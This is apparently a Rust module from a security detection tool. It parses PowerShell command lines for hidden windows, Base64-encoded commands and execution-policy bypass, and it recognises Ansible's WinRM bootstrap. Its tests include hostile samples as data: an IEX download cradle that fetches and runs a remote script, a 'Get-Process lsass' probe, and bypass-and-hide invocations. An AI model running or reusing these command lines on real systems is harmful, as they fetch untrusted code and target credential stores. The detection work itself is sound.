//! Options of PowerShell's command line, which may be typed as short as they are plain: `-w 1`, `-win hidden`, `-exec bypass`, `-enc`.

use base64::prelude::{BASE64_STANDARD, Engine};

/// What a command line asks PowerShell for.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) struct Asked {
    /// No window is to be seen.
    pub(crate) hidden: bool,
    /// The command is Base64.
    pub(crate) encoded: bool,
    /// Scripts are to run whatever the policy says.
    pub(crate) bypass: bool,
}

impl Asked {
    /// Reads a command line in which PowerShell stands anywhere; of others, nothing.
    pub(crate) fn of(line: &str) -> Self {
        let mut asked = Self::default();
        let mut words = line.split_whitespace();
        // Do PowerShell's own options stand here?
        let mut own = false;
        while let Some(word) = words.next() {
            let Some(option) = option(word).filter(|_| own) else {
                // What it is to run begins here. That may be PowerShell once more.
                own = is_powershell(word);
                continue;
            };
            match option {
                Means::Window => {
                    let value = value(words.next());
                    asked.hidden |= value == "1" || (!value.is_empty() && "hidden".starts_with(&value));
                }
                Means::Policy => {
                    asked.bypass |= matches!(value(words.next()).as_str(), "bypass" | "unrestricted");
                }
                Means::Encoded => asked.encoded |= words.next().is_some(),
                Means::Value => drop(words.next()),
                Means::Script => own = false,
                Means::Switch => {}
            }
        }
        asked
    }

    /// Does it hide its window, or what it does?
    pub(crate) fn hides(self) -> bool {
        self.hidden || self.encoded
    }
}

/// What an option of PowerShell means.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Means {
    /// How its window is shown follows.
    Window,
    /// Which scripts may run follows.
    Policy,
    /// The command in Base64 follows.
    Encoded,
    /// What it is to run follows: all else is for that.
    Script,
    /// A value follows that tells nothing.
    Value,
    /// It stands by itself.
    Switch,
}

/// Options of Windows PowerShell and PowerShell 7, and how many of their letters are enough.
const OPTIONS: [(&str, usize, Means); 20] = [
    ("windowstyle", 1, Means::Window),
    ("executionpolicy", 2, Means::Policy),
    ("ep", 2, Means::Policy),
    ("encodedcommand", 1, Means::Encoded),
    ("ec", 2, Means::Encoded),
    ("command", 1, Means::Script),
    ("commandwithargs", 8, Means::Script),
    ("cwa", 3, Means::Script),
    ("file", 1, Means::Script),
    ("version", 1, Means::Value),
    ("inputformat", 2, Means::Value),
    ("if", 2, Means::Value),
    ("outputformat", 1, Means::Value),
    ("of", 2, Means::Value),
    ("psconsolefile", 3, Means::Value),
    ("encodedarguments", 8, Means::Value),
    ("ea", 2, Means::Value),
    ("configurationname", 6, Means::Value),
    ("settingsfile", 8, Means::Value),
    ("workingdirectory", 2, Means::Value),
];

/// What a word means as an option; none if it is no option. PowerShell takes the longer dashes of Word for the short one.
fn option(word: &str) -> Option<Means> {
    let word = word.trim_matches(QUOTES).strip_prefix(['-', '/', '–', '—', '―'])?.to_lowercase();
    if word.is_empty() {
        return None;
    }
    let is_it = |(whole, least, _): &&(&str, usize, Means)| word.len() >= *least && whole.starts_with(&word);
    Some(OPTIONS.iter().find(is_it).map_or(Means::Switch, |(_, _, means)| *means))
}

const QUOTES: [char; 2] = ['"', '\''];

fn value(word: Option<&str>) -> String {
    word.unwrap_or_default().trim_matches(QUOTES).to_lowercase()
}

/// Is this word the program, whatever its path and whatever sign of a shell stands beside it?
fn is_powershell(word: &str) -> bool {
    let word = word.trim_end_matches(['"', '\'', ')', ';', '%']);
    let signs = ['\\', '/', '"', '\'', '(', '&', ';', '|', '=', '`', '^', '%'];
    let name = word.rsplit(signs).next().unwrap_or(word).to_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    // `cmd /cpowershell` is possible, too.
    name.ends_with("powershell") || name.ends_with("pwsh")
}

/// How often a command that is encoded may hold another one.
const MOST_LAYERS: usize = 3;

/// Is it the command with which Ansible begins each of its steps over WinRM, `powershell -EncodedCommand …`? It runs what comes
/// through its standard input, so that it says nothing of what was done.
pub(crate) fn is_ansible(line: &str) -> bool {
    let mut script = line.to_owned();
    let mut layers = 0;
    while layers < MOST_LAYERS
        && let Some(inner) = encoded(&script).and_then(decoded)
    {
        script = inner;
        layers += 1;
    }
    layers > 0 && is_bootstrap(&script)
}

/// The Base64 of `-EncodedCommand`. What is a script itself names no such option first.
fn encoded(line: &str) -> Option<&str> {
    let line = line.trim_start().trim_start_matches(['"', '&', ' ']);
    let (program, rest) = line.split_once(char::is_whitespace)?;
    let program = crate::program::file_name(program).trim_end_matches('"').to_ascii_lowercase();
    if !matches!(program.as_str(), "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe") {
        return None;
    }
    let mut words = rest.split_whitespace();
    while let Some(word) = words.next() {
        match option(word)? {
            Means::Encoded => return words.next().map(|value| value.trim_matches(QUOTES)),
            Means::Script => return None,
            Means::Window | Means::Policy | Means::Value => drop(words.next()),
            Means::Switch => {}
        }
    }
    None
}

/// PowerShell's Base64 is of UTF-16.
fn decoded(text: &str) -> Option<String> {
    let bytes = BASE64_STANDARD.decode(text).ok()?;
    let (pairs, _) = bytes.as_chunks::<2>();
    Some(String::from_utf16_lossy(&pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect::<Vec<_>>()))
}

/// The scripts of Ansible's versions: those since 2.8 are short, the one before was the whole wrapper.
fn is_bootstrap(script: &str) -> bool {
    let text = script.trim().to_lowercase();
    let begins = |with: &[&str]| with.iter().any(|begin| text.starts_with(begin));
    let short = text.len() <= 800
        && begins(&["&chcp.com 65001 > $null", "try {", "if ($psversiontable"])
        && text.contains("$exec_wrapper_str = $input | out-string")
        && text.contains("[scriptblock]::create($split_parts[0])");
    let whole = text.len() <= 8_000
        && begins(&["#requires -version 3.0", "begin {"])
        && text.contains("function convertto-hashtablefrompscustomobject")
        && text.contains("$output = $entrypoint.run($payload)");
    short || whole
}

/// What `-EncodedCommand` is given.
#[cfg(test)]
pub(crate) fn encode(script: &str) -> String {
    BASE64_STANDARD.encode(script.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_ansible_begins_with_and_what_only_looks_like_it() {
        let bootstrap = "&chcp.com 65001 > $null\n$exec_wrapper_str = $input | Out-String\n\
            $split_parts = $exec_wrapper_str.Split(@(\"`0`0`0`0\"), 2, [StringSplitOptions]::RemoveEmptyEntries)\n\
            Set-Variable -Name json_raw -Value $split_parts[1]\n\
            $exec_wrapper = [ScriptBlock]::Create($split_parts[0])\n&$exec_wrapper";
        let options = "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand";
        let once = |script: &str| format!("PowerShell {options} {}", encode(script));
        // The shell of winrs is given a command that calls PowerShell once more.
        let twice = format!(
            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" {options} {}"#,
            encode(&once(bootstrap))
        );
        assert!(encode("PowerShell ").starts_with("UABvAHcAZQByAFMAaABlAGwAbAA"));
        assert!(is_ansible(&once(bootstrap)) && is_ansible(&twice));
        for other in [
            once("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"),
            once(&once("Get-Process lsass")),
            once(&format!("Get-Process lsass\n{bootstrap}")),
            once(&format!("{bootstrap}\n{}", "x".repeat(2000))),
            "powershell -enc not-base64!".to_owned(),
            format!("powershell -Command {bootstrap}"),
            "cmd /c whoami".to_owned(),
        ] {
            assert!(!is_ansible(&other), "{other}");
        }
    }

    fn of(line: &str) -> [bool; 3] {
        let Asked { hidden, encoded, bypass } = Asked::of(line);
        [hidden, encoded, bypass]
    }

    #[test]
    fn options_as_short_as_they_are_typed() {
        assert_eq!(of("powershell.exe -exec bypass -noni -nop -w 1 -C \"x\""), [true, false, true]);
        assert_eq!(of("powershell -WindowStyle Hidden -EncodedCommand JABz"), [true, true, false]);
        assert_eq!(of("cmd /c pwsh.exe -ep Unrestricted -e JABz"), [false, true, true]);
        assert_eq!(
            of("PowerShell.exe -NoLogo -w Normal -ExecutionPolicy RemoteSigned -File a.ps1"),
            [false; 3]
        );
        assert_eq!(of("powershell –nop –w 1 —enc JABz"), [true, true, false]);
        // Options of which the value is no option, and PowerShell within PowerShell.
        assert_eq!(of("powershell -v 2 -o Text -inp None -e JABz"), [false, true, false]);
        assert_eq!(of(r#"powershell -c "& powershell -w hidden -c x""#), [true, false, false]);
        assert_eq!(
            of(r#"schtasks /create /tn PowerShell /tr "powershell.exe -w 1 x""#),
            [true, false, false]
        );
        assert_eq!(of(r#""C:\Program Files\PowerShell\7\pwsh.exe" -e JABz"#), [false, true, false]);
        // The first word that is no option begins the command.
        assert_eq!(of("powershell ls | grep -e x"), [false; 3]);
        assert_eq!(of(r"powershell.exe C:\scripts\powershell\deploy.ps1 -e x -w hidden"), [false; 3]);
        // Of the script, not of PowerShell.
        assert_eq!(of("powershell -File deploy.ps1 -w hidden -e x"), [false; 3]);
        assert_eq!(of("tool.exe -w hidden -enc x"), [false; 3]);
    }
}
